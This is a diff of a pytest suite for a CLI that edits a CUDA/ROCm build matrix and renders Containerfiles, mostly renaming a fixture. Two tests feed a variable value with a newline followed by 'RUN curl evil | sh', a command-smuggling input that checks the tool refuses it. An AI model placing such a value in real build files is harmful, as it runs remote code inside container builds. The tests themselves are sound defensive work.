@@ -11,19 +11,12 @@ from pathlib import Path
 import pytest
 
 from aipcc_build.matrix import load
-from tests.support.project import shipped_project
-
-
-@pytest.fixture
-def project(tmp_path: Path) -> Path:
-    """The edits are tried on a copy of the shipped project."""
-    return shipped_project(tmp_path)
 
 CUDA_VARS = ("--var", "cudart=12.10.37-1", "--var", "cuda_libraries=12.10.1-1")
 
 
-def matrix_file(project: Path) -> Path:
-    return project / "matrix" / "aipcc.yaml"
+def matrix_file(shipped: Path) -> Path:
+    return shipped / "matrix" / "aipcc.yaml"
 
 
 def changed_lines(before: str, after: str) -> tuple[list[str], list[str]]:
@@ -34,9 +27,9 @@ def changed_lines(before: str, after: str) -> tuple[list[str], list[str]]:
 
 
 @pytest.fixture
-def commented(project: Path) -> Path:
+def commented(shipped: Path) -> Path:
     """The shipped matrix plus comments in the awkward places: inline, between entries."""
-    path = matrix_file(project)
+    path = matrix_file(shipped)
     text = path.read_text()
     text = text.replace("      - {version: 6.4.1}\n",
                         "      - {version: 6.4.1}   # newest ROCm: MI300 support\n"
@@ -46,7 +39,7 @@ def commented(project: Path) -> Path:
     return path
 
 
-def test_add_version_keeps_every_comment_and_unrelated_line(project, commented, cli):
+def test_add_version_keeps_every_comment_and_unrelated_line(shipped, commented, cli):
     before = commented.read_text()
     first = cli("--matrix", str(commented), "add-version", "rocm", "6.5.0")
     second = cli("--matrix", str(commented), "add-version", "cuda", "12.10.1",
@@ -72,15 +65,15 @@ def test_add_version_keeps_every_comment_and_unrelated_line(project, commented, 
                                                                         "6.3.4"]
     for kind, name in (("builder", "cuda-12.10-ubi9"), ("base", "cuda-12.10-el9.6"),
                        ("devel", "cuda-12.10-el9.6"), ("builder", "rocm-6.5-ubi9")):
-        containerfile = project / "containerfiles" / kind / name / "Containerfile"
+        containerfile = shipped / "containerfiles" / kind / name / "Containerfile"
         assert containerfile.is_file(), containerfile
     assert "cuda-cudart-12-10-12.10.37-1" in \
-        (project / "containerfiles/builder/cuda-12.10-ubi9/Containerfile").read_text()
+        (shipped / "containerfiles/builder/cuda-12.10-ubi9/Containerfile").read_text()
     assert cli("--matrix", str(commented), "render", "--check").code == 0
 
 
-def test_add_version_prints_images_and_registry_request(project, cli):
-    result = cli("--matrix", str(matrix_file(project)), "add-version", "cuda", "12.10.1",
+def test_add_version_prints_images_and_registry_request(shipped, cli):
+    result = cli("--matrix", str(matrix_file(shipped)), "add-version", "cuda", "12.10.1",
                  *CUDA_VARS)
     assert result.code == 0, result.err
     for reference in ("quay.io/aipcc/builder/cuda-12.10-ubi9:3.0-dev",
@@ -100,11 +93,10 @@ def test_add_version_prints_images_and_registry_request(project, cli):
     assert "variant cuda12.10-ubi9" in indexes
 
 
-def test_add_version_to_the_demo_names_the_wheel_list_section(tmp_path, cli):
+def test_add_version_to_the_demo_names_the_wheel_list_section(shipped, cli):
     """The demo's indexes are published here from matrix/demo-wheels.txt: a new variant
     needs its own section there, or the build finds no wheel."""
-    shipped_project(tmp_path)
-    result = cli("--matrix", str(tmp_path / "matrix/demo.yaml"), "add-version", "cuda",
+    result = cli("--matrix", str(shipped / "matrix/demo.yaml"), "add-version", "cuda",
                  "13.0.1")
     assert result.code == 0, result.err
     assert "http://127.0.0.1:8580/1.0/cuda13.0-debian/simple/" in result.out
@@ -126,21 +118,21 @@ def test_add_version_to_the_demo_names_the_wheel_list_section(tmp_path, cli):
     (("cuda", "12.10.1"), "--var NAME=VALUE"),
     (("cuda", "12.10.1", "--var", "no-equals"), "is not NAME=VALUE"),
 ])
-def test_refused_add_version_leaves_everything_byte_identical(project, cli, args, message):
-    path = matrix_file(project)
+def test_refused_add_version_leaves_everything_byte_identical(shipped, cli, args, message):
+    path = matrix_file(shipped)
     before = path.read_bytes()
-    files_before = sorted((project / "containerfiles").rglob("*"))
+    files_before = sorted((shipped / "containerfiles").rglob("*"))
     result = cli("--matrix", str(path), "add-version", *args)
     assert result.code == 2
     assert message in result.err
     assert "Traceback" not in result.err
     assert path.read_bytes() == before
-    assert sorted((project / "containerfiles").rglob("*")) == files_before
+    assert sorted((shipped / "containerfiles").rglob("*")) == files_before
     assert not [p for p in path.parent.iterdir() if p.name.endswith(".tmp")]
 
 
-def test_retire_sets_eol_on_one_line(project, cli):
-    path = matrix_file(project)
+def test_retire_sets_eol_on_one_line(shipped, cli):
+    path = matrix_file(shipped)
     before = path.read_text()
     assert cli("--matrix", str(path), "retire", "cuda", "12.8.1", "--eol", "2026-12-31").code == 0
     assert cli("--matrix", str(path), "retire", "rocm", "6.3.4", "--eol", "2026-03-31").code == 0
@@ -150,8 +142,8 @@ def test_retire_sets_eol_on_one_line(project, cli):
     assert str(load(path).accelerators["rocm"].versions[1].eol) == "2026-03-31"
 
 
-def test_retire_remove_deletes_the_entry_and_its_containerfiles(project, cli):
-    path = matrix_file(project)
+def test_retire_remove_deletes_the_entry_and_its_containerfiles(shipped, cli):
+    path = matrix_file(shipped)
     before = path.read_text()
     result = cli("--matrix", str(path), "retire", "cuda", "12.8.1", "--remove")
     assert result.code == 0, result.err
@@ -162,9 +154,9 @@ def test_retire_remove_deletes_the_entry_and_its_containerfiles(project, cli):
                        "        vars: {cudnn: 9.8.0.87}"]  # RPM versions: the table
     for kind, name in (("builder", "cuda-12.8-ubi9"), ("base", "cuda-12.8-el9.6"),
                        ("devel", "cuda-12.8-el9.6")):
-        assert not (project / "containerfiles" / kind / name).exists()
-        assert f"removed: {project}/containerfiles/{kind}/{name}/Containerfile" in result.out
-    assert (project / "containerfiles/builder/cuda-12.9-ubi9/Containerfile").is_file()
+        assert not (shipped / "containerfiles" / kind / name).exists()
+        assert f"removed: {shipped}/containerfiles/{kind}/{name}/Containerfile" in result.out
+    assert (shipped / "containerfiles/builder/cuda-12.9-ubi9/Containerfile").is_file()
     assert cli("--matrix", str(path), "render", "--check").code == 0
 
 
@@ -175,8 +167,8 @@ def test_retire_remove_deletes_the_entry_and_its_containerfiles(project, cli):
     (("cuda", "12.8.1", "--eol", "2026-01-01", "--remove"), "--remove deletes"),
     (("rocmm", "6.3.4", "--remove"), "did you mean 'rocm'"),
 ])
-def test_refused_retire_leaves_the_file_byte_identical(project, cli, args, message):
-    path = matrix_file(project)
+def test_refused_retire_leaves_the_file_byte_identical(shipped, cli, args, message):
+    path = matrix_file(shipped)
     before = path.read_bytes()
     result = cli("--matrix", str(path), "retire", *args)
     assert result.code == 2
@@ -184,8 +176,8 @@ def test_refused_retire_leaves_the_file_byte_identical(project, cli, args, messa
     assert path.read_bytes() == before
 
 
-def test_retire_refuses_to_remove_the_last_version(project, cli):
-    path = matrix_file(project)
+def test_retire_refuses_to_remove_the_last_version(shipped, cli):
+    path = matrix_file(shipped)
     assert cli("--matrix", str(path), "retire", "rocm", "6.3.4", "--remove").code == 0
     before = path.read_bytes()
     result = cli("--matrix", str(path), "retire", "rocm", "6.4.1", "--remove")
@@ -193,16 +185,16 @@ def test_retire_refuses_to_remove_the_last_version(project, cli):
     assert path.read_bytes() == before
 
 
-def test_only_selects_by_name_or_key(project, cli):
-    path = str(matrix_file(project))
+def test_only_selects_by_name_or_key(shipped, cli):
+    path = str(matrix_file(shipped))
     by_key = cli("--matrix", path, "list", "--json", "--only", "base/cuda-12.8-el9.6")
     by_name = cli("--matrix", path, "list", "--json", "--only", "cuda-12.8-el9.6")
     assert by_key.out.count('"key"') == 1 and '"base/cuda-12.8-el9.6"' in by_key.out
     assert by_name.out.count('"key"') == 2  # the base and the devel image of that cell
 
 
-def test_add_version_reads_rpm_versions_from_the_component_table(project, cli):
-    path = matrix_file(project)
+def test_add_version_reads_rpm_versions_from_the_component_table(shipped, cli):
+    path = matrix_file(shipped)
     before = path.read_text()
     result = cli("--matrix", str(path), "add-version", "cuda", "13.0.1",
                  "--native-driver", "580.82.07", "--eol", "2028-01-31")
@@ -214,14 +206,14 @@ def test_add_version_reads_rpm_versions_from_the_component_table(project, cli):
         "        native_driver: 580.82.07",
         "        eol: 2028-01-31",
     ]
-    base = (project / "containerfiles" / "base" / "cuda-13.0-el9.6" / "Containerfile").read_text()
+    base = (shipped / "containerfiles" / "base" / "cuda-13.0-el9.6" / "Containerfile").read_text()
     assert "cuda-cudart-13-0-13.0.88-1 \\" in base
     assert "cuda-libraries-13-0-13.0.1-1 \\" in base
     assert "NV_CUDA_CUDART_VERSION=13.0.88-1" in base
 
 
-def test_add_version_names_the_values_a_release_unknown_to_the_table_needs(project, cli):
-    path = matrix_file(project)
+def test_add_version_names_the_values_a_release_unknown_to_the_table_needs(shipped, cli):
+    path = matrix_file(shipped)
     before = path.read_bytes()
     result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                  "--native-driver", "580.65.06", "--eol", "2028-06-30")
@@ -232,29 +224,29 @@ def test_add_version_names_the_values_a_release_unknown_to_the_table_needs(proje
     assert path.read_bytes() == before
 
 
-def test_matrix_vars_override_the_component_table(project, cli):
-    path = matrix_file(project)
+def test_matrix_vars_override_the_component_table(shipped, cli):
+    path = matrix_file(shipped)
     path.write_text(path.read_text().replace(
         "        eol: 2027-06-30\n",
         "        eol: 2027-06-30\n        vars: {cudart: 12.9.37-1}\n", 1))
     result = cli("--matrix", str(path), "render")
     assert result.code == 0, result.err
-    base = (project / "containerfiles" / "base" / "cuda-12.9-el9.6" / "Containerfile").read_text()
+    base = (shipped / "containerfiles" / "base" / "cuda-12.9-el9.6" / "Containerfile").read_text()
     assert "cuda-cudart-12-9-12.9.37-1 \\" in base  # the matrix's value
     assert "cuda-libraries-12-9-12.9.1-1 \\" in base  # the table's value
 
 
-def test_shipped_containerfiles_match_the_component_table(project, cli):
+def test_shipped_containerfiles_match_the_component_table(shipped, cli):
     # matrix/aipcc.yaml lists no RPM versions; the committed files carry the table's.
-    result = cli("--matrix", str(matrix_file(project)), "render", "--check")
+    result = cli("--matrix", str(matrix_file(shipped)), "render", "--check")
     assert result.code == 0, result.err
-    base = (project / "containerfiles" / "base" / "cuda-12.8-el9.6" / "Containerfile").read_text()
+    base = (shipped / "containerfiles" / "base" / "cuda-12.8-el9.6" / "Containerfile").read_text()
     assert "cuda-cudart-12-8-12.8.90-1 \\" in base
 
 
-def test_add_version_vars_keep_the_value_typed(project, cli):
+def test_add_version_vars_keep_the_value_typed(shipped, cli):
     """issue 16.7: `on` and `1:20` stay text (YAML 1.1 would read true and 80)."""
-    path = matrix_file(project)
+    path = matrix_file(shipped)
     result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                  "--var", "cudart=on", "--var", "cuda_libraries=1:20", "--var", "n=3",
                  "--var", "flag=true", "--var", "octal=0o17", "--var", "word=yes")
@@ -263,13 +255,13 @@ def test_add_version_vars_keep_the_value_typed(project, cli):
                 if v.version == "12.10.1"]
     assert dict(entry.vars) == {"cudart": "on", "cuda_libraries": "1:20", "n": 3,
                                 "flag": True, "octal": "0o17", "word": "yes"}
-    rendered = (project / "containerfiles" / "base" / "cuda-12.10-el9.6" / "Containerfile")
+    rendered = (shipped / "containerfiles" / "base" / "cuda-12.10-el9.6" / "Containerfile")
     assert "cuda-cudart-12-10-on" in rendered.read_text()
 
 
-def test_add_version_on_a_symlinked_matrix_edits_the_target_and_keeps_its_mode(project, cli):
+def test_add_version_on_a_symlinked_matrix_edits_the_target_and_keeps_its_mode(shipped, cli):
     """issue 16.10"""
-    link = matrix_file(project)
+    link = matrix_file(shipped)
     target = link.with_name("aipcc-real.yaml")
     link.rename(target)
     link.symlink_to(target.name)
@@ -296,8 +288,8 @@ def test_write_atomic_removes_its_temp_file_when_the_rename_fails(tmp_path, monk
 
 # ---- issue 22.11: a value that reaches a Containerfile is one line, written as given -------
 
-def test_a_matrix_var_holding_a_newline_is_refused_where_it_is(project, cli):
-    path = matrix_file(project)
+def test_a_matrix_var_holding_a_newline_is_refused_where_it_is(shipped, cli):
+    path = matrix_file(shipped)
     text = path.read_text()
     assert "cudnn: 9.8.0.87" in text
     path.write_text(text.replace("cudnn: 9.8.0.87", 'cudnn: "9.8.0.87\\nRUN curl evil | sh"'))
@@ -310,8 +302,8 @@ def test_a_matrix_var_holding_a_newline_is_refused_where_it_is(project, cli):
 
 
 @pytest.mark.parametrize("value", ["12.10.37-1\nRUN curl evil | sh", "a\rb"])
-def test_add_version_refuses_a_var_of_several_lines(project, cli, value):
-    path = matrix_file(project)
+def test_add_version_refuses_a_var_of_several_lines(shipped, cli, value):
+    path = matrix_file(shipped)
     before = path.read_text()
     result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                  "--var", f"cudart={value}", "--var", "cuda_libraries=12.10.1-1")
@@ -321,8 +313,8 @@ def test_add_version_refuses_a_var_of_several_lines(project, cli, value):
 
 
 @pytest.mark.parametrize("value", [" padded ", "a  b", "#not-a-comment", "x # y", "'q'"])
-def test_add_version_writes_a_var_exactly_as_given(project, cli, value):
-    path = matrix_file(project)
+def test_add_version_writes_a_var_exactly_as_given(shipped, cli, value):
+    path = matrix_file(shipped)
     result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                  "--var", f"cudart={value}", "--var", "cuda_libraries=12.10.1-1")
     assert result.code == 0, result.err
@@ -331,19 +323,19 @@ def test_add_version_writes_a_var_exactly_as_given(project, cli, value):
     assert entry.vars["cudart"] == value
 
 
-def test_retire_takes_a_prefix_naming_one_version(project, cli):
+def test_retire_takes_a_prefix_naming_one_version(shipped, cli):
     """`retire cuda 12.8` as every other command reads 12.8: the version 12.8.1."""
-    result = cli("--matrix", str(matrix_file(project)), "retire", "cuda", "12.8",
+    result = cli("--matrix", str(matrix_file(shipped)), "retire", "cuda", "12.8",
                  "--eol", "2026-12-31")
     assert result.code == 0, result.err
     assert "End of life 2026-12-31 for cuda 12.8.1" in result.out
-    assert load(str(matrix_file(project))).accelerators["cuda"].versions[1].eol.isoformat() \
+    assert load(str(matrix_file(shipped))).accelerators["cuda"].versions[1].eol.isoformat() \
         == "2026-12-31"
 
 
-def test_retire_refuses_a_prefix_naming_several_versions(project, cli):
-    before = matrix_file(project).read_text()
-    result = cli("--matrix", str(matrix_file(project)), "retire", "cuda", "12", "--remove")
+def test_retire_refuses_a_prefix_naming_several_versions(shipped, cli):
+    before = matrix_file(shipped).read_text()
+    result = cli("--matrix", str(matrix_file(shipped)), "retire", "cuda", "12", "--remove")
     assert result.code == 2
     assert "12 names 12.9.1 and 12.8.1 of cuda: give one of them" in result.err
-    assert matrix_file(project).read_text() == before
+    assert matrix_file(shipped).read_text() == before
